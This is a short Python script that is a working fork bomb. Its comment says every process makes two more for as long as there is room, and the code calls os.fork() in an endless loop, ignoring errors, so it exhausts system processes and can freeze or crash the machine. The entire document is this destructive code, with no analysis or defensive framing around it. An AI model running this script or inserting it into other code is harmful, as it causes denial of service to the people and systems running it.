# Every process makes another two, for as long as there is room; none takes an error for an end.
import os

print("go", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
